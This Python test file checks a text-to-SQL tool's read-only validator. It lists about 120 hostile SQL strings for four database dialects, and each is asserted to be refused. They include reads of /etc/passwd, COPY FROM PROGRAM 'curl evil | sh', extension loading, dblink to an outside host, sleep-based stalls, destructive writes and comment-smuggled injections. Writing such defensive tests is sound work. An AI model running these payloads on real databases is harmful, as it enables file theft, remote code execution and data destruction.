"""The AST read-only policy: the first layer refuses every way to write, read files,
run programs, reach other servers, change settings or stall the server."""

from __future__ import annotations

import dataclasses

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from text2sql.errors import InvalidSQL, ReadOnlyViolation, Text2SQLError
from text2sql.schema_model import Column, Schema, Table
from text2sql.validate import check, ensure_read_only

BYPASSES = [
    ("sqlite", "DELETE FROM Artist"),
    ("sqlite", "UPDATE Artist SET Name = 'x'"),
    ("sqlite", "INSERT INTO Artist (Name) VALUES ('x')"),
    ("sqlite", "DROP TABLE Artist"),
    ("sqlite", "CREATE TABLE x (a INT)"),
    ("sqlite", "ALTER TABLE Artist ADD COLUMN x INT"),
    ("sqlite", "SELECT 1; DELETE FROM Artist"),
    ("sqlite", "SELECT 1; SELECT 2"),
    ("sqlite", "PRAGMA writable_schema = 1"),
    ("sqlite", "ATTACH DATABASE '/tmp/evil.db' AS evil"),
    ("sqlite", "SELECT load_extension('/tmp/evil.so')"),
    ("sqlite", "SELECT writefile('/tmp/x', 'data')"),
    ("sqlite", "REPLACE INTO Artist (ArtistId, Name) VALUES (1, 'x')"),
    ("sqlite", "VACUUM INTO '/tmp/copy.db'"),
    ("postgres", "WITH gone AS (DELETE FROM artist RETURNING *) SELECT * FROM gone"),
    ("postgres", "SELECT pg_read_file('/etc/passwd')"),
    ("postgres", "SELECT lo_import('/etc/passwd')"),
    ("postgres", "SELECT pg_sleep(100)"),
    ("postgres", "COPY (SELECT 1) TO PROGRAM 'id'"),
    ("postgres", "COPY artist TO '/tmp/artist.csv'"),
    ("postgres", "SET statement_timeout = 0"),
    ("postgres", "SELECT set_config('statement_timeout', '0', false)"),
    ("postgres", "CALL do_things()"),
    ("postgres", "SELECT * INTO new_table FROM artist"),
    ("postgres", "SELECT * FROM artist FOR UPDATE"),
    ("postgres", "SELECT nextval('artist_seq')"),
    ("postgres", "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)"),
    ("postgres", "TRUNCATE artist"),
    ("postgres", "GRANT ALL ON artist TO public"),
    ("postgres", "BEGIN"),
    ("mysql", "SELECT LOAD_FILE('/etc/passwd')"),
    ("mysql", "SELECT * FROM Artist INTO OUTFILE '/tmp/x'"),
    ("mysql", "SELECT SLEEP(100)"),
    ("mysql", "SELECT BENCHMARK(100000000, MD5('x'))"),
    ("mysql", "LOAD DATA INFILE '/etc/passwd' INTO TABLE Artist"),
    ("duckdb", "SELECT * FROM read_csv('/etc/passwd')"),
    ("duckdb", "SELECT * FROM read_parquet('s3://bucket/x.parquet')"),
    ("duckdb", "SELECT * FROM '/etc/passwd.csv'"),
    ("duckdb", "SELECT * FROM glob('/home/*')"),
    ("duckdb", "COPY Artist TO '/tmp/artist.csv'"),
    ("duckdb", "INSTALL httpfs"),
    ("duckdb", "LOAD httpfs"),
    ("duckdb", "ATTACH '/tmp/other.duckdb' AS other"),
    ("duckdb", "SELECT getenv('HOME')"),
    ("duckdb", "EXPORT DATABASE '/tmp/dump'"),
    # the same functions behind quoting and schema qualification
    ("postgres", 'SELECT "pg_read_file"(\'/etc/passwd\')'),
    ("postgres", "SELECT pg_catalog.pg_read_file('/etc/passwd')"),
    ("postgres", 'SELECT "pg_catalog"."pg_sleep"(5)'),
    ("postgres", "SELECT * FROM pg_catalog.pg_ls_dir('.')"),
    ("sqlite", 'SELECT "load_extension"(\'/tmp/evil.so\')'),
    ("mysql", "SELECT `sleep`(5)"),
    # writes hidden in statements that look like reads, or in nested queries
    ("postgres", "EXPLAIN ANALYZE DELETE FROM artist"),
    ("postgres", "WITH x AS (UPDATE artist SET name = 'a' RETURNING *) SELECT 1"),
    ("postgres", "WITH x AS (INSERT INTO artist VALUES (1) RETURNING *) SELECT 1"),
    ("sqlite", "WITH x AS (DELETE FROM Artist RETURNING *) SELECT * FROM x"),
    ("postgres", "SELECT 1 UNION ALL SELECT pg_sleep(1)::text"),
    ("postgres", "SELECT name FROM artist WHERE name = (SELECT pg_sleep(1)::text)"),
    ("postgres", "CREATE TEMP TABLE x AS SELECT 1"),
    ("postgres", "SELECT * FROM artist FOR SHARE"),
    ("postgres", "SELECT * FROM artist FOR NO KEY UPDATE"),
    ("mysql", "SELECT * FROM Artist LOCK IN SHARE MODE"),
    ("mysql", "SELECT 1 INTO @x"),
    ("mysql", "SELECT * FROM Artist INTO DUMPFILE '/tmp/x'"),
    # statements that run code, change the session or the server
    ("postgres", "DO $$ BEGIN DELETE FROM artist; END $$"),
    ("postgres", "PREPARE p AS DELETE FROM artist"),
    ("postgres", "EXECUTE p"),
    ("postgres", "LISTEN ch"),
    ("postgres", "NOTIFY ch, 'x'"),
    ("postgres", "VACUUM artist"),
    ("postgres", "RESET ALL"),
    ("postgres", "DISCARD ALL"),
    ("postgres", "REFRESH MATERIALIZED VIEW v"),
    ("postgres", "COMMENT ON TABLE artist IS 'x'"),
    ("postgres", "COPY artist FROM PROGRAM 'curl evil | sh'"),
    ("mysql", "DO SLEEP(5)"),
    ("mysql", "HANDLER Artist OPEN"),
    ("mysql", "RENAME TABLE Artist TO a"),
    ("mysql", "FLUSH TABLES"),
    ("mysql", "SHOW GRANTS"),
    ("sqlite", "DETACH DATABASE x"),
    ("sqlite", "SAVEPOINT a"),
    ("sqlite", "VACUUM"),
    ("sqlite", "CREATE TRIGGER t AFTER INSERT ON Artist BEGIN DELETE FROM Artist; END"),
    ("duckdb", "SET enable_external_access = true"),
    ("duckdb", "RESET enable_external_access"),
    ("duckdb", "PRAGMA enable_profiling"),
    ("duckdb", "CALL pragma_version()"),
    ("duckdb", "CHECKPOINT"),
    ("duckdb", "USE other"),
    ("duckdb", "CREATE SECRET (TYPE s3, KEY_ID 'x')"),
    # functions that run SQL from a string, read server files or large objects, dump data
    ("postgres", "SELECT query_to_xml('DELETE FROM artist', true, true, '')"),
    ("postgres", "SELECT database_to_xml(true, true, '')"),
    ("postgres", "SELECT table_to_xml('users', true, true, '')"),
    ("postgres", "SELECT pg_file_write('/tmp/x', 'y', false)"),
    ("postgres", "SELECT lo_get(16384)"),
    ("postgres", "SELECT dblink_exec('host=evil', 'DROP TABLE x')"),
    ("postgres", "SELECT pg_stat_reset()"),
    ("postgres", "SELECT pg_create_restore_point('x')"),
    ("postgres", "SELECT pg_try_advisory_lock(1)"),
    ("duckdb", "SELECT * FROM query('DELETE FROM t')"),
    ("duckdb", "SELECT json_execute_serialized_sql('x')"),
    ("duckdb", "FROM duckdb_secrets()"),
    ("duckdb", "SELECT * FROM postgres_query('db', 'DELETE FROM t')"),
    ("duckdb", "FROM parquet_file_metadata('/tmp/x.parquet')"),
    ("duckdb", "SELECT * FROM read_text('/etc/passwd')"),
    ("duckdb", "SELECT * FROM sqlite_scan('/tmp/x.db', 't')"),
    ("duckdb", "SELECT * FROM Artist, read_json('/tmp/x.json') AS j"),
    ("sqlite", "SELECT name FROM fsdir('/home')"),
    ("sqlite", "SELECT * FROM zipfile('/tmp/x.zip')"),
    ("mysql", "SELECT MASTER_POS_WAIT('log', 4)"),
    ("postgres", "SELECT pg_log_backend_memory_contexts(1)"),
    # files read through table names
    ("duckdb", 'SELECT * FROM "secrets.csv"'),
    ("duckdb", "SELECT * FROM secrets.csv"),
    ("duckdb", "SELECT * FROM 'https://example.com/x.parquet'"),
    # text the database executes but sqlglot would read as a comment
    ("mysql", "SELECT 1 /*! , SLEEP(10) */"),
    ("mysql", "SELECT Name FROM Artist /*!50000 INTO OUTFILE '/tmp/x' */"),
    ("mysql", "SELECT 1 /*M! , LOAD_FILE('/etc/passwd') */"),
    # statement boundaries the way the database sees them
    ("mysql", "SELECT 'a\\\\'; DELETE FROM Artist; -- '"),
    ("postgres", "SELECT E'\\''; DELETE FROM artist; --'"),
    ("postgres", "SELECT $$a$$; DELETE FROM artist"),
    ("sqlite", "SELECT 1 -- x\n; DELETE FROM Artist"),
    ("mysql", "SELECT 1 # x\n; DELETE FROM Artist"),
]


@pytest.mark.parametrize("dialect, sql", BYPASSES, ids=[f"{d}:{s[:40]}" for d, s in BYPASSES])
def test_every_bypass_is_refused_by_the_ast_policy(dialect, sql):
    with pytest.raises((ReadOnlyViolation, InvalidSQL)):
        ensure_read_only(sql, dialect)
    assert check(sql, None, dialect), "check() must report a problem too"


ALLOWED = [
    ("sqlite", "SELECT Name FROM Artist"),
    ("sqlite", "WITH a AS (SELECT 1 AS x) SELECT x FROM a"),
    ("sqlite", "SELECT Name FROM Artist UNION SELECT Name FROM Genre"),
    ("sqlite", "SELECT COUNT(*) FROM Track WHERE Milliseconds > 100000"),
    ("postgres", "SELECT lower(name), count(*) FROM artist GROUP BY 1"),
    ("mysql", "SELECT `Name` FROM `Artist` LIMIT 3"),
    ("duckdb", "SELECT Name FROM Artist ORDER BY Name LIMIT 5"),
    ("sqlite", "VALUES (1), (2)"),
    # dangerous words inside strings and comments are data, not code
    ("sqlite", "SELECT 'DELETE FROM Artist; SELECT load_extension(1)' AS s"),
    ("mysql", "SELECT '/*! , SLEEP(10) */' AS s"),
    ("postgres", "SELECT 1 -- DROP TABLE artist"),
    ("postgres", "SELECT 1 /* /* nested */ , pg_sleep(5) */"),
    ("mysql", "SELECT 1 /*+ MAX_EXECUTION_TIME(1000) */"),
    ("mysql", "SELECT 'a\\'; DELETE FROM t; -- '"),
    ("postgres", "SELECT $x$;DELETE$x$ AS s"),
    # read-only functions and table functions people really use
    ("sqlite", "SELECT value FROM json_each('[1, 2]')"),
    ("sqlite", "SELECT name FROM pragma_table_info('Artist')"),
    ("postgres", "SELECT g FROM generate_series(1, 3) AS g"),
    ("postgres", "SELECT currval('artist_id_seq')"),
    ("postgres", "SELECT lower(name), length(name), now() FROM artist"),
    ("duckdb", "SELECT * FROM range(3)"),
    ("duckdb", "SELECT * FROM main.Artist"),
    ("mysql", "SELECT @rank := 1"),
    ("postgres", "TABLE artist"),
    ("postgres", "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 3) SELECT i FROM n"),
]


@pytest.mark.parametrize("dialect, sql", ALLOWED)
def test_read_only_queries_are_accepted(dialect, sql):
    ensure_read_only(sql, dialect)
    assert check(sql, None, dialect) == []


def test_garbage_is_never_considered_read_only():
    with pytest.raises(InvalidSQL):
        ensure_read_only("SELECT FROM WHERE (", "sqlite")


EXCLUDING = Schema(
    dialect="sqlite",
    tables=(Table("users", (Column("id", "INTEGER", primary_key=True), Column("name", "TEXT"))),),
    exclude=("users.password_hash", "audit_*"),
)


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM users",
        "SELECT u.* FROM users AS u",
        "SELECT password_hash FROM users",
        "SELECT u.password_hash FROM users AS u",
        "SELECT * FROM audit_log",
        "SELECT * FROM main.audit_log",
        'SELECT * FROM "AUDIT_events"',
        "SELECT id FROM audit_log",
        "SELECT n FROM (SELECT * FROM users) AS s(n)",
        "WITH s AS (SELECT * FROM users) SELECT id FROM s",
        "SELECT id FROM users WHERE EXISTS (SELECT * FROM audit_log)",
        "SELECT json_object('u', u.*) FROM users AS u",
    ],
)
def test_queries_touching_excluded_objects_are_refused(sql):
    problems = check(sql, EXCLUDING)
    assert any(p.code == "excluded" for p in problems), problems
    with pytest.raises(ReadOnlyViolation):
        ensure_read_only(sql, schema=EXCLUDING)


def test_naming_the_allowed_columns_of_a_partly_excluded_table_works():
    assert check("SELECT id, name FROM users", EXCLUDING) == []
    assert check("SELECT COUNT(*) FROM users", EXCLUDING) == []
    ensure_read_only("SELECT u.id, u.name FROM users AS u WHERE u.name LIKE 'a%'", schema=EXCLUDING)


@pytest.mark.parametrize("sql", ["TABLE users", "SELECT row_to_json(u) FROM users AS u", "SELECT to_jsonb(users) FROM users",
                                 "SELECT row_to_json(u.*) FROM users AS u"])
def test_postgres_whole_row_references_to_a_partly_excluded_table_are_refused(sql):
    schema = dataclasses.replace(EXCLUDING, dialect="postgres")
    assert any(p.code == "excluded" for p in check(sql, schema)), check(sql, schema)
    with pytest.raises(ReadOnlyViolation):
        ensure_read_only(sql, schema=schema)


def test_problems_point_at_the_offending_text():
    sql = "SELECT Name,\n       pg_read_file('/etc/passwd')\nFROM artist"
    (p,) = check(sql, None, "postgres")
    assert (p.code, p.line, p.column, p.end_column) == ("not-read-only", 2, 8, 20)


@pytest.mark.parametrize("sql", [";", " ; ;", "-- only a comment", "/* c */ ;"])
def test_text_with_no_statement_is_refused_as_empty_not_run(sql):
    with pytest.raises(InvalidSQL, match="no statement"):
        ensure_read_only(sql, "sqlite")
    assert [p.code for p in check(sql, None, "sqlite")] == ["empty"]


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=120), st.sampled_from(["sqlite", "postgres", "mysql", "duckdb"]))
def test_ensure_read_only_raises_only_text2sql_errors(text, dialect):
    try:
        ensure_read_only(text, dialect)
    except Text2SQLError:
        return
    assert check(text, None, dialect) == [], "accepted text must also pass check()"


# sqlglot must see statement boundaries, strings and comments exactly as the server does:
# each text is checked by the policy, then run on the real server, which must return the
# one row the policy saw (PostgreSQL nests comments and keeps backslashes in plain strings;
# MariaDB escapes with backslashes and needs a space after "--").
BOUNDARIES = [
    ("postgres", "SELECT 1 /* /* nested */ , pg_sleep(5) */ AS one", [(1,)]),
    ("postgres", "SELECT $x$;DELETE$x$ AS s", [(";DELETE",)]),
    ("postgres", "SELECT 'a\\' AS s", [("a\\",)]),
    ("mariadb", "SELECT 'a\\'; DELETE FROM t; -- ' AS s", [("a'; DELETE FROM t; -- ",)]),
    ("mariadb", "SELECT '/*! , SLEEP(10) */' AS s", [("/*! , SLEEP(10) */",)]),
    ("mariadb", "SELECT 1 --1", [(2,)]),
]


@pytest.mark.parametrize("server, sql, rows", BOUNDARIES)
def test_the_policy_reads_text_the_way_the_server_does(server, sql, rows, request):
    import sqlalchemy as sa

    dialect = "mysql" if server == "mariadb" else server
    assert check(sql, None, dialect) == []
    engine = sa.create_engine(request.getfixturevalue(f"chinook_{server}_url"))
    try:
        with engine.connect() as conn:
            assert [tuple(r) for r in conn.exec_driver_sql(sql)] == rows
            conn.rollback()
    finally:
        engine.dispose()


def test_mariadb_runs_what_is_inside_an_executable_comment(chinook_mariadb_url):
    """Why /*! ... */ is refused: sqlglot reads a comment, the server runs the code."""
    import sqlalchemy as sa

    sql = "SELECT 1 /*! + 41 */ AS answer"
    engine = sa.create_engine(chinook_mariadb_url)
    try:
        with engine.connect() as conn:
            assert conn.exec_driver_sql(sql).scalar() == 42
    finally:
        engine.dispose()
    assert [p.code for p in check(sql, None, "mysql")] == ["not-read-only"]


def test_exclusions_hold_even_for_a_schema_that_still_lists_the_objects():
    """Defence in depth: a hand-built or stale Schema that still has excluded objects."""
    unfiltered = Schema(
        dialect="sqlite",
        tables=(Table("users", (Column("id", "INTEGER"), Column("password_hash", "TEXT"))),
                Table("audit_log", (Column("id", "INTEGER"),))),
        exclude=("users.password_hash", "audit_*"),
    )
    for sql in ["SELECT password_hash FROM users", "SELECT u.password_hash FROM users AS u", "SELECT id FROM audit_log"]:
        assert [p.code for p in check(sql, unfiltered)] == ["excluded"], sql
        with pytest.raises(ReadOnlyViolation):
            ensure_read_only(sql, schema=unfiltered)
    assert check("SELECT id FROM users", unfiltered) == []
